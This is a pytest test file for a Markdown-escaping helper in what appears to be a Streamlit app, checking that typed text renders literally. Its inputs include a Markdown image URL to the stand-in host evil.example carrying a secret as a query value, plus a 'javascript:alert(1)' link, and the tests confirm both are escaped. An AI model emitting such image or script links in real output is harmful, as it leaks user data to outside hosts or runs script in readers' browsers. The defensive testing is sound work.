"""Text as data: what the browser shows of each of these was looked at in Chromium with Streamlit 1.67."""

import pytest

from components.safe_text import as_markdown, plain, shortened

LEAK = "https://evil.example/p?d=SECRET"


@pytest.mark.parametrize(
    ("typed", "markdown"),
    [
        pytest.param("It costs $5 and then $7 more.", r"It costs \$5 and then \$7 more.", id="F26: prices"),
        pytest.param("$$x^2$$", r"\$\$x^2\$\$", id="a formula with two dollars"),
        pytest.param("already \\$5", r"already \$5", id="a dollar that the model escaped"),
        pytest.param(r"Area is \(\pi r^2\).", r"Area is \\(\\pi r^2\\).", id="F27: LaTeX in parentheses"),
        pytest.param(r"\[a_1 * b\]", r"\\\[a\_1 \* b\\\]", id="LaTeX in brackets"),
        pytest.param(r"\(x\_1\)", r"\\(x\\\_1\\)", id="LaTeX with a Markdown escape"),
        pytest.param(r"C:\Users", r"C\:\\Users", id="a Windows path"),
        pytest.param("email:example", r"email\:example", id="F28: a colon and a word"),
        pytest.param("key:smile:", r"key\::small[]smile\:", id="F28: a shortcode"),
        pytest.param("at 12:30", r"at 12\:30", id="a time"),
        pytest.param(":red[hot]", r"\:red\[hot\]", id="a colour"),
        pytest.param(":blue-badge[b] :shimmer[s]", r"\:blue-badge\[b\] \:shimmer\[s\]", id="a badge"),
        pytest.param(":material/bolt:", r"\::small[]material/bolt\:", id="an icon"),
        pytest.param(":streamlit:", r"\::small[]streamlit\:", id="the logo"),
        pytest.param("::note[x]", r"\:\:note\[x\]", id="a leaf directive"),
        pytest.param("__init__ and *args", r"\_\_init\_\_ and *args", id="F29: underscores and a star"),
        pytest.param("snake_case_name", r"snake\_case\_name", id="underscores within a word"),
        pytest.param("2*3*4 = 24", r"2\*3\*4 = 24", id="times"),
        pytest.param("2**3**2", r"2\*\*3\*\*2", id="powers"),
        pytest.param("(a+b)*(c+d)*2", r"(a+b)\*(c+d)\*2", id="times with parentheses"),
        pytest.param("10~20 and 30~40", r"10\~20 and 30\~40", id="ranges"),
        pytest.param("a -> b", r"a \-:small[]\> b", id="an arrow"),
        pytest.param("a --> b", r"a \-:small[]\-:small[]\> b", id="a long arrow"),
        pytest.param("x >= 5 -- yes", r"x \>:small[]= 5 \-:small[]- yes", id="signs that Streamlit draws"),
        pytest.param("<b>x</b>", r"\<b\>x\</b\>", id="HTML"),
        pytest.param("&lt; and AT&T", r"\&lt; and AT&T", id="an entity"),
        pytest.param(f"![x]({LEAK})", r"\!\[x\](https\::small[]//evil.example/p?d=SECRET)", id="F31: an image"),
        pytest.param("![x][r]", r"\!\[x\]\[r\]", id="an image by reference"),
        pytest.param(f"[r]: {LEAK}", r"\[r\]\: https\://evil.example/p?d=SECRET", id="where a reference leads"),
        pytest.param('<img src="a.png">', r'\<img src="a.png"\>', id="an image as HTML"),
        pytest.param("[^1]", r"\[^1\]", id="a footnote"),
        pytest.param("[^1]: text", r"\[^1\]\: text", id="the text of a footnote"),
        pytest.param("[x](javascript:alert(1))", r"\[x\](javascript\:alert(1))", id="a link that runs"),
        pytest.param("[x](data:text/html,y)", r"\[x\](data\:text/html,y)", id="a link that holds its page"),
        pytest.param("[x](/compare)", r"\[x\](/compare)", id="a link into the app"),
        pytest.param("a `b", r"a \`b", id="a lone backtick"),
        pytest.param("+", r"\+", id="a lone list mark"),
        pytest.param("===", r"\===", id="an underline that would make a heading"),
    ],
)
def test_shows_as_typed(typed: str, markdown: str) -> None:
    assert as_markdown(typed) == markdown


@pytest.mark.parametrize(
    "markdown",
    [
        "**bold**, *italic*, ~~gone~~ and `code`",
        "Tower A is **50**m taller",
        "这是**重点**内容",
        "- one  \n  - two  \n- three",
        "1. one  \n2. two",
        "> quoted  \n> text",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "`$5 and :smile: and __init__`",
        "```python\nprice = '$5'  # :smile:\n\n    x = a*b*c\n```",
        "[the docs](https://docs.example/a_(b)?x=1)",
        "<https://docs.example/a?x=1>",
    ],
)
def test_keeps_formatting(markdown: str) -> None:
    assert as_markdown(markdown) == markdown


def test_keeps_single_newlines() -> None:
    assert as_markdown("Thought: a\nAction: b\r\n\rend") == "Thought\\: a  \nAction\\: b\n\nend"


def test_headings_are_smaller_than_those_of_the_page() -> None:
    assert as_markdown("# One\n## Two\n### Three #") == "#### One  \n##### Two  \n###### Three \\#"


def test_a_rule_makes_no_heading_of_the_line_before() -> None:
    assert as_markdown("a\n---\nb\n--") == "a  \n***  \nb  \n\\-:small[]-"


def test_a_fence_that_is_still_open_is_closed() -> None:
    assert as_markdown("a\n```py\nx = '$1'") == "a  \n```py\nx = '$1'\n```"


def test_a_fence_inside_a_block_of_code_does_not_end_it() -> None:
    assert as_markdown("~~~\n```\n![x](http://a.example)\n```\n~~~") == ("````\n```\n![x](http://a.example)\n```\n````")


def test_code_in_a_list_moves_to_the_left_with_what_follows_it() -> None:
    typed = "1. run\n    ```sh\n    ls\n    ```\n    then\n2. end"
    assert as_markdown(typed) == "1. run  \n```sh\nls\n```\nthen  \n\n2. end"


def test_a_quoted_fence_ends_with_its_quote() -> None:
    assert as_markdown(f"> ```\n> code\n![x]({LEAK})") == ("```\ncode\n```\n" + as_markdown(f"![x]({LEAK})"))


def test_indented_code_becomes_a_fence() -> None:
    assert as_markdown("a\n\n    x = '$1'\n\nb") == "a\n\n```\nx = '$1'\n\n```\nb"


def test_a_deep_indentation_without_code_is_taken_away() -> None:
    assert as_markdown(f"a\n    ![x]({LEAK})") == "a  \n" + as_markdown(f"![x]({LEAK})")


def test_a_diagram_stays_code() -> None:
    assert as_markdown("```mermaid\ngraph TD\n```") == "```\ngraph TD\n```"


def test_code_in_a_table_cannot_be_cut_open_by_a_bar() -> None:
    table = "| a | b |\n|---|---|\n"
    assert as_markdown(table + "| `|![x](http://a.example)|` |") == table + r"| `\|![x](http://a.example)\|` |"
    assert as_markdown(table + r"| `\\|x` |") == table + r"| `\\\|x` |"


def test_unequal_backticks_are_no_code() -> None:
    assert as_markdown(f"````|![x]({LEAK})|`").startswith(r"\`\`\`\`|\!\[x\]")


def test_quotes_within_quotes_have_an_end() -> None:
    assert as_markdown(">" * 1000 + "x").startswith(">>>>>>>>\\>")


@pytest.mark.parametrize(
    ("typed", "label"),
    [
        ("**bold** `code` [x](y)", r"\*\*bold\*\* \`code\` \[x\](y)"),
        ("a\n\n b", "a b"),
        ("- a", r"\- a"),
        ("1. a", r"1\. a"),
        ("# a", r"\# a"),
        ("> a", r"\> a"),
        ("<-> -->", r"\<:small[]\-:small[]\> \-:small[]\-:small[]\>"),
        ("$5 :smile: a]", r"\$5 \::small[]smile\: a\]"),
        ("see http://a.example", r"see http\::small[]//a.example"),
        ("www.a.example", r"www:small[]\.a.example"),
        ("me@a.example", r"me@:small[]a.example"),
    ],
)
def test_a_label_shows_its_text_as_typed(typed: str, label: str) -> None:
    assert plain(typed) == label


@pytest.mark.parametrize(
    ("text", "most", "short"),
    [("height", 6, "height"), ("a\n b", 3, "a b"), ("height of tower", 8, "height…"), ("天气怎么样", 4, "天气怎…")],
)
def test_shortens_to_one_line(text: str, most: int, short: str) -> None:
    assert shortened(text, most) == short
